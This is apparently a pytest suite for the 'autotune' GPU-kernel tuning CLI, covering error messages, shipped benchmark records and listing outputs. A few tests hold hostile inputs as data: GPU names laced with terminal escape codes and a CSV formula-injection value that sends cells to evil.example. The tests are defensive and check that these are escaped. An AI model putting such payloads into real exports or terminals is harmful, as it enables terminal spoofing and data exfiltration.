"""The `autotune` command end to end on a GPU-less machine: one-line errors, shipped records, listings."""

from __future__ import annotations

import csv
import importlib.util
import json
import sqlite3
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from autotune import api, ops
from autotune.core.fingerprint import GpuInfo
from autotune.core.outcome import Outcome, Status
from autotune.core.problem import Problem
from autotune.ops import gemv
from autotune.store import Store, open_store
from tests.fakes import ok, record, run_cli

REPO = Path(__file__).resolve().parents[1]
H200 = GpuInfo("NVIDIA H200", "GPU-1111", "9.0", 132, 60 * 2**20, 141 * 2**30, "13.0", "13.0")
SHAPE = Problem("gemv", "float16", 4096, 8192)
FAST = {**gemv.DEFAULT_CONFIG, "block": 256, "vec": 8}
SLOW = {**gemv.DEFAULT_CONFIG, "block": 64}
FAST_TEXT = " ".join(f"{k}={v}" for k, v in FAST.items())
HAS_PYCUDA = importlib.util.find_spec("pycuda") is not None


@dataclass
class Result:
    code: int
    out: str
    err: str

    @property
    def text(self) -> str:
        return self.out + self.err


Cli = Callable[..., Result]


@pytest.fixture(autouse=True)
def _fresh_api(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """No store or selector cached from another test; no GPU, whatever this machine has; wide tables."""
    api.new_session()
    monkeypatch.setattr("autotune.api.local_gpus", list)
    monkeypatch.setattr("autotune.core.fingerprint.local_gpus", list)
    monkeypatch.setenv("COLUMNS", "250")
    yield
    api.new_session()


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Cli:
    """Run `autotune ARGS...` through cli.main(), as the console script does."""

    def invoke(*args: str) -> Result:
        return Result(*run_cli(monkeypatch, capsys, *args))

    return invoke


def assert_one_error(result: Result, *words: str) -> str:
    """Exit 2 and a single `error:` line on stderr, naming `words`; returns the line."""
    assert result.code == 2, result
    assert "Traceback" not in result.text
    lines = [line for line in result.err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.err
    for word in words:
        assert word in lines[0]
    return lines[0]


def measure(store: Store, problem: Problem, config: dict[str, int], outcome: Outcome) -> None:
    record(store, problem, config, outcome, H200)


def tuned_db(path: Path) -> Path:
    """A database with hgemv 4096x8192 on the H200: OK at 4 and 9 us and one wrong result."""
    with open_store(str(path), import_shipped=False) as store:
        measure(store, SHAPE, FAST, ok(4.0))
        measure(store, SHAPE, SLOW, ok(9.0))
        measure(store, SHAPE, {**SLOW, "unroll": 1}, Outcome(Status.WRONG_RESULT, "max error 0.5"))
    return path


# --- bad input: one line, exit code 2 ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["sweep", "--op", "foo"], ["unknown op 'foo'"]),
        (["best", "--m", "64", "--n", "64", "--op", "foo", "--gpu", "x"], ["unknown op"]),
        (["sweep", "--m", "64", "--n", "64", "--dtype", "foo"], ["unknown dtype 'foo'"]),
        (["best", "--m", "64", "--n", "64", "--dtype", "fp64", "--gpu", "x"], ["unknown dtype"]),
        (["sweep", "--op", "sgemv", "--dtype", "fp16"], ["sgemv", "float16"]),
        (["sweep", "--m", "0", "--n", "64"], ["M must be a positive integer"]),
        (["sweep", "--m", "-5", "--n", "64"], ["M must be a positive integer, got -5"]),
        (["best", "--m", "64", "--n", "0", "--gpu", "x"], ["N must be a positive integer"]),
        (["best", "--m", "4294967296", "--n", "64", "--gpu", "x"], ["too large"]),
        (["sweep", "--m", "abc", "--n", "64"], ["--m"]),
        (["sweep", "--m", "64"], ["--m and --n"]),
        (["best", "--m", "64"], ["--n"]),
        (["sweep", "--m", "64", "--n", "64", "--shapes", "shapes.txt"], ["not both"]),
        (["sweep", "--m", "64", "--n", "64", "--trials", "0"], ["--trials"]),
        (["sweep", "--m", "64", "--n", "64", "--sampler", "foo"], ["unknown sampler 'foo'"]),
        (["sweep", "--m", "64", "--n", "64", "--timeout", "0"], ["--timeout"]),
        (["sweep", "--m", "64", "--n", "64", "--patience", "-1"], ["--patience"]),
        (["sweep", "--m", "64", "--n", "64", "--db", "nosuchdriver://x"], ["unknown database driver"]),
        (["best", "--m", "64", "--n", "64", "--gpu", "x", "--db", "nosuchdriver://x"], ["unknown database driver"]),
        (["list", "--db", "nosuchdriver://x"], ["nosuchdriver://x"]),
        (["best", "--m", "64", "--n", "64", "--gpu", " "], ["--gpu"]),
        (["sweep", "--nosuch"], ["--nosuch"]),
        (["bench", "--m", "0", "--n", "64"], ["M must be a positive integer"]),
        (["nosuchcommand"], ["nosuchcommand"]),
        pytest.param(
            ["show", "--m", "64", "--n", "64", "--gpu", "x", "--limit", "-1"],
            ["--limit"],
        ),
    ],
)
def test_bad_input_is_one_error_line(run: Cli, args: list[str], words: list[str]) -> None:
    assert_one_error(run(*args), *words)


def test_sweep_error_is_the_only_stderr_line(run: Cli) -> None:
    result = run("sweep", "--op", "foo")
    assert result.err.splitlines() == [
        "error: unknown op 'foo': choose one of gemv, gemm, qgemm, qdequant, q8gemm, sgemv, hgemv, bgemv, sgemm, "
        "hgemm, bgemm, hqgemm, bqgemm, hqdequant, bqdequant, hq8gemm, bq8gemm"
    ]


def test_best_error_is_the_only_stderr_line(run: Cli) -> None:
    result = run("best", "--m", "64", "--n", "64", "--op", "foo", "--gpu", "x")
    assert result.err.splitlines() == [
        "error: unknown op 'foo': choose one of gemv, gemm, qgemm, qdequant, q8gemm, sgemv, hgemv, bgemv, sgemm, "
        "hgemm, bgemm, hqgemm, bqgemm, hqdequant, bqdequant, hq8gemm, bq8gemm"
    ]
    assert result.out == ""


def test_shapes_file_with_a_bad_line(run: Cli, tmp_path: Path) -> None:
    shapes = tmp_path / "shapes.txt"
    shapes.write_text("# M N\n4096 4096\n\n1024 x\n")
    line = assert_one_error(run("sweep", "--shapes", str(shapes)), "line 4", "shapes.txt")
    assert "'1024 x'" in line
    shapes.write_text("4096 4096 1\n")
    assert_one_error(run("sweep", "--shapes", str(shapes)), "line 1")
    shapes.write_text("# nothing\n\n")
    assert_one_error(run("sweep", "--shapes", str(shapes)), "holds no shapes")
    shapes.write_bytes(b"\xff\xfe4\x000\x009\x006\x00")  # UTF-16, or a database given by mistake
    assert_one_error(run("sweep", "--shapes", str(shapes)), "shapes.txt is not UTF-8 text")


def test_shapes_file_with_a_bad_dimension_names_the_line(run: Cli, tmp_path: Path) -> None:
    shapes = tmp_path / "shapes.txt"
    shapes.write_text("4096 4096\n0 64\n")
    assert_one_error(run("sweep", "--shapes", str(shapes)), "shapes.txt", "line 2", "positive")


def test_missing_shapes_file(run: Cli, tmp_path: Path) -> None:
    assert_one_error(run("sweep", "--shapes", str(tmp_path / "nope.txt")), "nope.txt", "No such file")


@pytest.mark.parametrize("command", [["best", "--m", "64", "--n", "64", "--gpu", "NVIDIA H200"], ["list"], ["gpus"]])
def test_db_in_a_missing_folder(run: Cli, tmp_path: Path, command: list[str]) -> None:
    target = tmp_path / "missing" / "tune.db"
    assert_one_error(run(*command, "--db", str(target)), "cannot open database", "missing")
    assert not target.parent.exists()


@pytest.mark.parametrize("command", [["best", "--m", "64", "--n", "64", "--gpu", "NVIDIA H200"], ["list"], ["gpus"]])
def test_newer_schema_is_refused_untouched(run: Cli, tmp_path: Path, command: list[str]) -> None:
    path = tmp_path / "newer.db"
    open_store(str(path), import_shipped=False).close()
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE alembic_version SET version_num = 'ffff9999'")
    connection.close()
    before = (path.read_bytes(), path.stat().st_mtime_ns)
    assert_one_error(run(*command, "--db", str(path)), "ffff9999", "upgrade autotune")
    assert (path.read_bytes(), path.stat().st_mtime_ns) == before


@pytest.mark.skipif(HAS_PYCUDA, reason="checks the error of a machine without PyCUDA")
@pytest.mark.parametrize("folder", ["", "missing/"])
def test_sweep_without_a_gpu_creates_no_database(run: Cli, tmp_path: Path, folder: str) -> None:
    target = tmp_path / f"{folder}sweep.db"
    line = assert_one_error(run("sweep", "--m", "64", "--n", "64", "--trials", "2", "--db", str(target)))
    assert any(word in line for word in ("PyCUDA", "nvcc", "GPU")), line
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_best_without_a_gpu_answers_for_every_stored_gpu(run: Cli, tmp_path: Path) -> None:
    """The design card's `autotune best --m 4096 --n 8192` on a machine with no GPU: a line for each
    GPU the database knows; with none known, one error line that says how to name one."""
    db = str(tmp_path / "empty.db")
    line = assert_one_error(run("best", "--m", "4096", "--n", "8192", "--db", db), "no NVIDIA GPU", "--gpu")
    assert "gpu=" not in line  # the option, not the Python keyword
    api.new_session()
    tuned = tuned_db(tmp_path / "tuned.db")
    with open_store(str(tuned), import_shipped=False) as store:
        store.upsert_gpu(GpuInfo("NVIDIA H100", "GPU-2222", "9.0", 132, 50 * 2**20, 80 * 2**30, "13.0", "13.0"))
    result = run("best", "--m", "4096", "--n", "8192", "--db", str(tuned))
    assert result.code == 0 and result.err == "", result
    headlines = [line for line in result.out.splitlines() if line.startswith("hgemv 4096x8192 on ")]
    assert (
        len(headlines) == 2
        and any("NVIDIA H100 [default]" in line for line in headlines)
        and any("NVIDIA H200 [measured]" in line for line in headlines)
    )
    data = json.loads(run("best", "--m", "4096", "--n", "8192", "--json", "--db", str(tuned)).out)
    assert sorted(entry["gpu"] for entry in data) == ["NVIDIA H100", "NVIDIA H200"]


def test_dtype_alone_picks_the_dtype_of_the_default_op(run: Cli, tmp_path: Path) -> None:
    data = best_json(run, tmp_path / "e.db", "--m", "64", "--n", "64", "--dtype", "float32", "--gpu", "NVIDIA H200")
    assert (data["op"], data["dtype"]) == ("sgemv", "float32")


def test_version(run: Cli) -> None:
    from autotune import __version__

    result = run("--version")
    assert result.code == 0 and result.out.strip() == f"autotune {__version__}"


def test_the_stale_flag_the_selector_recommends_exists(run: Cli) -> None:
    # --stale must parse; the sweep then stops at the bad --db, before any GPU work.
    assert_one_error(run("sweep", "--stale", "--db", "nosuchdriver://x"), "database")
    assert_one_error(run("sweep", "--stale", "--m", "64", "--n", "64"), "--stale", "--m")


def test_the_other_sweeps_refuse_what_they_do_not_take(run: Cli) -> None:
    assert_one_error(run("sweep", "--retime", "--db", "nosuchdriver://x"), "database")
    assert_one_error(run("sweep", "--retime", "--shapes", "x.txt"), "--retime", "--shapes")
    assert_one_error(run("sweep", "--retime", "--stale"), "--stale, --retime and --pending")
    assert_one_error(run("sweep", "--pending", "--op", "hgemv"), "--pending", "--op")
    assert_one_error(run("sweep", "--pending", "--lease", "0"), "lease", "positive")
    assert_one_error(run("sweep", "--devices", "all", "--device", "1"), "--device or --devices")


# --- shipped records answer `best` on a machine without a GPU --------------------------------------


@pytest.fixture
def shipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A shipped-resources folder whose records/ holds an export of tuned_db(); returns a fresh db path."""
    db_dir = tmp_path / "resources"
    (db_dir / "records").mkdir(parents=True)
    (db_dir / "migrations").symlink_to(REPO / "db" / "migrations")
    (db_dir / "gpus.json").symlink_to(REPO / "db" / "gpus.json")
    with open_store(str(tuned_db(tmp_path / "source.db")), import_shipped=False) as source:
        assert source.export_records(H200.name, db_dir / "records" / "nvidia-h200.jsonl") == 2
    monkeypatch.setattr("autotune.core.paths.db_dir", lambda: db_dir)
    return tmp_path / "fresh.db"


def config_line(out: str) -> dict[str, int]:
    """The config `best` printed, as a dict (key order aside)."""
    [line] = [line for line in out.splitlines() if line.startswith("config: ")]
    pairs = (item.split("=") for item in line.removeprefix("config: ").split())
    return {key: int(value) for key, value in pairs}


def best_json(run: Cli, db: Path, *args: str) -> dict[str, Any]:
    result = run("best", *args, "--json", "--db", str(db))
    assert result.code == 0 and result.err == "", result
    data: dict[str, Any] = json.loads(result.out)
    return data


def test_shipped_records_answer_best(run: Cli, shipped: Path) -> None:
    data = best_json(run, shipped, "--m", "4096", "--n", "8192", "--gpu", "NVIDIA H200")
    assert (data["source"], data["config"], data["time_us"], data["gpu"]) == ("measured", FAST, 4.0, "NVIDIA H200")
    assert (data["op"], data["m"], data["n"], data["from_shape"], data["notes"]) == ("hgemv", 4096, 8192, None, [])
    text = run("best", "--m", "4096", "--n", "8192", "--gpu", "NVIDIA H200", "--db", str(shipped))
    assert text.code == 0 and text.out.startswith("hgemv 4096x8192 on NVIDIA H200")
    assert "measured 4.00 us, 250 GB/s" in text.out and config_line(text.out) == FAST


@pytest.mark.parametrize("gpu", ["nvidia-h200", "h200", "nvidia h200", "NVIDIA-H200"])
def test_gpu_names_match_loosely(run: Cli, shipped: Path, gpu: str) -> None:
    data = best_json(run, shipped, "--m", "4096", "--n", "8192", "--gpu", gpu)
    assert (data["gpu"], data["source"], data["config"]) == ("NVIDIA H200", "measured", FAST)


def test_shipped_records_estimate_an_untuned_shape(run: Cli, shipped: Path) -> None:
    data = best_json(run, shipped, "--m", "4096", "--n", "4096", "--gpu", "h200")
    assert (data["source"], data["config"], data["from_shape"]) == ("estimate", FAST, [4096, 8192])
    assert len(data["notes"]) == 1 and "4096x8192" in data["notes"][0]


def test_a_described_gpu_without_records_gets_the_defaults_of_the_families_it_runs(run: Cli, shipped: Path) -> None:
    data = best_json(run, shipped, "--m", "4096", "--n", "8192", "--gpu", "A100-SXM4-80GB")
    assert (data["gpu"], data["source"], data["config"]["cluster"]) == ("NVIDIA A100-SXM4-80GB", "default", 1)
    assert "no record exists for NVIDIA A100-SXM4-80GB" in data["notes"][-1] and "capability 8.0" in data["notes"][-1]
    gemm = best_json(run, shipped, "--op", "hgemm", "--m", "4096", "--n", "4096", "--k", "4096", "--gpu", "l40s")
    assert "wgs" not in gemm["config"] and "wm" in gemm["config"]  # mma: wgmma runs on 9.0 only
    text = run("best", "--m", "4096", "--n", "8192", "--gpu", "NVIDIA B200", "--db", str(shipped))
    assert "note: nothing tuned for hgemv" in text.out and "capability 10.0" in text.out


def test_an_unknown_gpu_name_is_refused_with_the_known_ones(run: Cli, shipped: Path) -> None:
    result = run("best", "--m", "64", "--n", "64", "--gpu", "RTX 9999", "--db", str(shipped))
    assert_one_error(result, "unknown GPU 'RTX 9999': the database holds NVIDIA H200", "NVIDIA L40S")
    assert_one_error(run("best", "--m", "64", "--n", "64", "--gpu", "x", "--db", str(shipped)), "unknown GPU")
    assert_one_error(run("best", "--m", "64", "--n", "64", "--gpu", "A100", "--db", str(shipped)), "ambiguous")


def test_ambiguous_gpu_is_an_error(run: Cli, tmp_path: Path) -> None:
    db = tuned_db(tmp_path / "two.db")
    with open_store(str(db), import_shipped=False) as store:
        store.upsert_gpu(GpuInfo("NVIDIA H100", "GPU-2222", "9.0", 132, 50 * 2**20, 80 * 2**30, "13.0", "13.0"))
    assert_one_error(run("best", "--m", "64", "--n", "64", "--gpu", "nvidia-h", "--db", str(db)), "ambiguous")


def test_gemv_with_dtype_resolves_to_the_blas_name(run: Cli, tmp_path: Path) -> None:
    db = tmp_path / "e.db"
    data = best_json(run, db, "--m", "64", "--n", "64", "--op", "gemv", "--dtype", "bf16", "--gpu", "NVIDIA H200")
    assert (data["op"], data["dtype"]) == ("bgemv", "bfloat16")
    text = run(
        "best", "--m", "64", "--n", "64", "--op", "gemv", "--dtype", "bf16", "--gpu", "NVIDIA H200", "--db", str(db)
    )
    assert text.out.startswith("bgemv 64x64 on NVIDIA H200")


def test_best_text_names_the_source(run: Cli, tmp_path: Path) -> None:
    text = run("best", "--m", "64", "--n", "64", "--gpu", "NVIDIA L40S", "--db", str(tmp_path / "e.db"))
    assert text.out.startswith("hgemv 64x64 on NVIDIA L40S [default]")


@pytest.mark.parametrize("command", ["best", "show"])
def test_gpu_names_are_printed_verbatim(run: Cli, tmp_path: Path, command: str) -> None:
    result = run(command, "--m", "64", "--n", "64", "--gpu", "[/x] [bold]GPU", "--db", str(tmp_path / "e.db"))
    # A name neither stored nor described is refused, and its text shown as it is.
    assert result.code == 2 and "unknown GPU '[/x] [bold]GPU'" in result.err


HOSTILE = "EVIL\x1b[2J\x1b]0;pwned\x07\u202eGPU"


@pytest.mark.parametrize("command", ["best", "show"])
def test_escape_codes_in_a_gpu_name_are_never_printed_raw(run: Cli, tmp_path: Path, command: str) -> None:
    result = run(command, "--m", "64", "--n", "64", "--gpu", HOSTILE, "--db", str(tmp_path / "e.db"))
    assert result.code == 2, result  # a GPU neither command can answer for
    assert "\x1b" not in result.text and "\x07" not in result.text and "\u202e" not in result.text
    assert "EVIL\\x1b[2J\\x1b]0;pwned\\x07\\u202eGPU" in result.text


def test_escape_codes_in_stored_text_and_in_errors_are_never_printed_raw(run: Cli, tmp_path: Path) -> None:
    db = tuned_db(tmp_path / "tuned.db")
    with open_store(str(db), import_shipped=False) as store:
        store.upsert_gpu(GpuInfo(HOSTILE, "GPU-2222", "9.0", 132, 60 * 2**20, 141 * 2**30, "13.0\x1b[5m", "13.0"))
    for args in (["gpus"], ["list"], ["list", "--gpu", HOSTILE], ["best", "--m", "64", "--n", "64", "--op", HOSTILE]):
        result = run(*args, "--db", str(db))
        assert "\x1b" not in result.text and "\x07" not in result.text, (args, result)
    assert "EVIL\\x1b" in run("gpus", "--db", str(db)).out


def test_control_characters_in_json_csv_and_html_outputs_are_escapes(run: Cli, tmp_path: Path) -> None:
    # A right-to-left override (U+202E, category Cf), DEL and a C1 control (U+009B, a terminal's
    # CSI) pass json.dumps raw; ESC passes html.escape and csv raw.
    hostile = HOSTILE + "\x7f\x9b2J"
    db = tmp_path / "hostile.db"
    gpu = GpuInfo(hostile, "GPU-2222", "9.0", 132, 60 * 2**20, 141 * 2**30, "13.0", "13.0")
    with open_store(str(db), import_shipped=False) as store:
        record(store, SHAPE, FAST, ok(4.0), gpu)
        store.enqueue(hostile, [SHAPE])
    for command in ("list", "queue"):
        result = run(command, "--json", "--db", str(db))
        assert result.code == 0 and result.out.isascii(), result  # every character above ~ is an escape
        assert json.loads(result.out)[0]["gpu"] == hostile  # and reads back as stored
    assert "\\u202e" in result.out and "\\u009b" in result.out and "\\u007f" in result.out
    for args, name in ((["export", "--format", "csv"], "out.csv"), (["report"], "out.html")):
        result = run(*args, "-o", str(tmp_path / name), "--db", str(db))
        assert result.code == 0, result
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert not any(ch in text for ch in "\x1b\x07\x7f\x9b\u202e"), name
        assert "EVIL\\x1b[2J\\x1b]0;pwned\\x07\\u202eGPU" in text, name


def test_a_csv_cell_a_spreadsheet_would_take_for_a_formula_is_written_as_text(run: Cli, tmp_path: Path) -> None:
    """A GPU name or driver from an imported records file that begins with = + - @ ran as a formula in
    a spreadsheet opening the CSV export (=HYPERLINK sends the sheet's cells away)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    db = tmp_path / "formula.db"
    gpu = GpuInfo(formula, "GPU-3333", "9.0", 132, 60 * 2**20, 141 * 2**30, "@SUM(1+1)", "+1")
    with open_store(str(db), import_shipped=False) as store:
        record(store, SHAPE, FAST, ok(4.0), gpu)
    assert run("export", "--format", "csv", "-o", str(tmp_path / "out.csv"), "--db", str(db)).code == 0
    rows = list(csv.DictReader((tmp_path / "out.csv").open()))
    cells = [value for row in rows for value in row.values() if value]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells


def test_json_output_keeps_readable_text_readable() -> None:
    from autotune.core.output import json_text

    text = json_text({"gpu": "Grafikkarte µ 显卡\u202e\u2028"})
    assert "µ 显卡" in text and "\\u202e\\u2028" in text
    assert json.loads(text) == {"gpu": "Grafikkarte µ 显卡\u202e\u2028"}


def test_show_prints_messages_verbatim(run: Cli, tmp_path: Path) -> None:
    db = tuned_db(tmp_path / "tuned.db")
    message = "detected during instantiation [with T=__half, BLOCK=256]"
    with open_store(str(db), import_shipped=False) as store:
        measure(store, SHAPE, {**SLOW, "rows": 2}, Outcome(Status.COMPILE_ERROR, f"nvcc failed\n{message}"))
    result = run("show", "--m", "4096", "--n", "8192", "--gpu", "h200", "--db", str(db))
    assert message in result.out


# --- listings --------------------------------------------------------------------------------------


def test_no_arguments_prints_help(run: Cli) -> None:
    result = run()
    assert result.code == 0 and "Usage" in result.out
    for command in ("sweep", "best", "list", "show", "gpus"):
        assert command in result.out


def test_listings_of_an_empty_database(run: Cli, tmp_path: Path) -> None:
    db = str(tmp_path / "empty.db")
    listed = run("list", "--db", db)
    assert listed.code == 0 and "nothing tuned yet" in listed.out
    shown = run("show", "--m", "4096", "--n", "8192", "--gpu", "NVIDIA H200", "--db", db)
    assert_one_error(shown, "unknown GPU 'NVIDIA H200': the database holds no GPU yet")
    gpus = run("gpus", "--db", db)
    assert gpus.code == 0 and "this machine: no NVIDIA GPU" in gpus.out and "NVIDIA" not in gpus.out.split("\n", 1)[1]


def test_list_prints_the_tuned_problems(run: Cli, tmp_path: Path) -> None:
    db = str(tuned_db(tmp_path / "tuned.db"))
    result = run("list", "--db", db)
    assert result.code == 0 and result.err == ""
    assert result.out.splitlines()[0] == "NVIDIA H200"  # a table per GPU, under its name
    [line] = [line for line in result.out.splitlines() if line.startswith("hgemv")]
    cells = line.split()
    assert cells[:5] == ["hgemv", "4096x8192", "2/3", "4.00", "250"]
    assert " ".join(cells[5:]) == FAST_TEXT  # the config, every value named
    assert "nothing tuned" in run("list", "--op", "sgemv", "--db", db).out
    unknown = run("list", "--gpu", "NVIDIA A100", "--db", db)
    assert_one_error(unknown, "unknown GPU 'NVIDIA A100': the database holds NVIDIA H200")  # as report and best
    assert "4096" in run("list", "--gpu", "h200", "--op", "hgemv", "--db", db).out
    [entry] = json.loads(run("list", "--json", "--db", db).out)
    assert (entry["gpu"], entry["op"], entry["m"], entry["n"], entry["config"]) == (
        "NVIDIA H200",
        "hgemv",
        4096,
        8192,
        FAST,
    )


def test_list_by_variant(run: Cli, tmp_path: Path) -> None:
    """--variant lists one form of an op (an int4 weight's group size), as best and sweep name it."""
    db = tuned_db(tmp_path / "tuned.db")
    qgemm = ops.get("qgemm")
    grouped = {v: qgemm.complete(Problem("qgemm", "float16", 1, 4096, 4096, variant=v)) for v in ("g128", "g64")}
    config = next(iter(qgemm.space(grouped["g128"])))
    with open_store(str(db), import_shipped=False) as store:
        for problem in grouped.values():
            measure(store, problem, config, ok(5.0))
    lines = run("list", "--variant", "g128", "--db", str(db)).out.splitlines()
    assert [line.split()[0] for line in lines if "1x4096x4096" in line] == ["hqgemm/g128"]
    assert not any(line.startswith("hgemv") for line in lines)
    assert "nothing tuned" in run("list", "--variant", "g32", "--db", str(db)).out
    assert_one_error(run("list", "--variant", "g128", "--op", "gemv", "--db", str(db)), "gemv has no variants")
    assert_one_error(run("list", "--variant", "g7", "--db", str(db)), "no op defines a variant 'g7'", "g128")
    # The form list prints, pasted into --op: told how to ask for it.
    for command in (["list"], ["best", "--m", "1", "--n", "4096", "--k", "4096"]):
        pasted = run(*command, "--op", "hqgemm/g128", "--db", str(db))
        assert_one_error(pasted, "--op hqgemm/g128 names a variant: give it as --op hqgemm --variant g128")


def test_list_fits_80_columns(run: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    db = str(tuned_db(tmp_path / "tuned.db"))
    lines = run("list", "--db", db).out.splitlines()
    assert lines and all(len(line) <= 80 for line in lines)
    assert len([line for line in lines if line.startswith("hgemv")]) == 1 and FAST_TEXT in " ".join(
        " ".join(lines).split()
    )
    wide = run("list", "--wide", "--db", db).out.splitlines()
    assert len(wide) == 2 and wide[1].startswith("H200") and wide[1].endswith(FAST_TEXT)  # one line a problem


def test_show_prints_every_trial_fastest_first(run: Cli, tmp_path: Path) -> None:
    db = str(tuned_db(tmp_path / "tuned.db"))
    result = run("show", "--m", "4096", "--n", "8192", "--gpu", "h200", "--db", db)
    assert result.code == 0 and "hgemv 4096x8192 on NVIDIA H200" in result.out
    rows = [line for line in result.out.splitlines() if "block=" in line]
    assert len(rows) == 3
    assert "4.00" in rows[0] and "9.00" in rows[1] and "wrong_result" in rows[2]
    lines = result.out.splitlines()
    assert lines[lines.index(rows[2]) + 1].split(maxsplit=1) == ["message:", "max error 0.5"]  # under its trial
    limited = run("show", "--m", "4096", "--n", "8192", "--gpu", "h200", "--limit", "1", "--db", db)
    assert len([line for line in limited.out.splitlines() if "block=" in line]) == 1
    assert "(2 more; --limit 0 shows all)" in limited.out


def test_gpus_prints_the_stored_gpus(run: Cli, tmp_path: Path) -> None:
    db = str(tuned_db(tmp_path / "tuned.db"))
    result = run("gpus", "--db", db)
    assert result.code == 0 and "this machine: no NVIDIA GPU" in result.out
    [line] = [line for line in result.out.splitlines() if "GPU-1111" in line]
    cells = [cell.strip() for cell in line.strip("│ ").split("│")]
    assert cells == ["NVIDIA H200", "9.0", "132", "60", "141", "13.0", "13.0", "GPU-1111"]


@pytest.mark.shipped_records
def test_the_shipped_h200_records_answer_on_a_machine_without_a_gpu(run: Cli, tmp_path: Path) -> None:
    """The issue's example, with the records that ship in db/records (imported on first use)."""
    result = run("best", "--m", "4096", "--n", "8192", "--gpu", "NVIDIA H200", "--db", str(tmp_path / "f.db"), "--json")
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["source"] == "measured" and data["gpu"] == "NVIDIA H200" and data["time_us"] > 0
    for dtype in ("float32", "bfloat16"):
        other = run(
            "best",
            "--m",
            "128256",
            "--n",
            "4096",
            "--op",
            "gemv",
            "--dtype",
            dtype,
            "--gpu",
            "h200",
            "--db",
            str(tmp_path / "f.db"),
            "--json",
        )
        assert json.loads(other.out)["source"] == "measured"


@pytest.mark.shipped_records
def test_the_shipped_h100_records_answer_apart_from_the_h200s(run: Cli, tmp_path: Path) -> None:
    """db/records ships an H100's GEMV records beside the H200's: `--gpu h100` picks them out, and each
    GPU answers with its own measurement. The H100's transposed records went with the families narrow
    replaced: there the H100 is never answered with the H200's measurement."""
    db = str(tmp_path / "f.db")
    answers = {}
    for gpu in ("h100", "h200"):
        for trans in ((), ("--trans",)):
            result = run("best", "--m", "4096", "--n", "8192", *trans, "--gpu", gpu, "--db", db, "--json")
            assert result.code == 0, result.err
            answers[gpu, bool(trans)] = json.loads(result.out)
    for (gpu, trans), data in answers.items():
        assert data["gpu"] == {"h100": "NVIDIA H100 80GB HBM3", "h200": "NVIDIA H200"}[gpu]
        if gpu == "h200" or not trans:
            assert data["source"] == "measured" and data["time_us"] > 0
    h100_trans = answers["h100", True]
    assert h100_trans["source"] != "measured" or "cublas_algo" in h100_trans["config"]
    # The H100 reads 64 MB at about 3.0 TB/s, the H200 at about 4.3: their records are not mixed up.
    assert answers["h100", False]["time_us"] > answers["h200", False]["time_us"]


def test_show_prints_the_clocks_and_power_of_each_trial(tmp_path: Path, run: Cli) -> None:
    gpu = GpuInfo("Clock Test GPU", "GPU-7", "9.0", 132, 60 * 2**20, 141 * 2**30, "13.0", "13.0")
    db = str(tmp_path / "clocks.db")
    with open_store(db, import_shipped=False) as store:
        for config, sm in ((FAST, 1980.0), (SLOW, 1755.0)):
            timed = Outcome(Status.OK, time_us=5.0 if sm > 1800 else 6.0, times_us=[5.0], sm_mhz=sm, power_w=512.5)
            record(store, SHAPE, config, timed, gpu)
    shown = run("show", "--m", "4096", "--n", "8192", "--gpu", gpu.name, "--db", db)
    assert shown.code == 0, shown.err
    assert "SM MHz" in shown.out and "1980" in shown.out and "1755" in shown.out and "512" in shown.out


def test_queue_takes_problem_options_with_add_only_and_a_gpu_name_a_records_file_could_hold(
    run: Cli, tmp_path: Path
) -> None:
    """A listing's --op was silently not applied; --add stored a GPU name of control characters, and a
    typo queued problems no machine would ever claim without a word."""
    db = str(tuned_db(tmp_path / "t.db"))
    assert_one_error(run("queue", "--op", "hgemm", "--db", db), "--op describes problems to add: give it with --add")
    assert_one_error(run("queue", "--add", "--gpu", "\x1b[31mRED", "--m", "64", "--n", "64", "--db", db), "no GPU name")
    typo = run("queue", "--add", "--gpu", "NVIDIA H2000", "--m", "64", "--n", "64", "--db", db)
    assert typo.code == 0 and "no GPU the database holds" in typo.err and "queued 1 problem" in typo.err
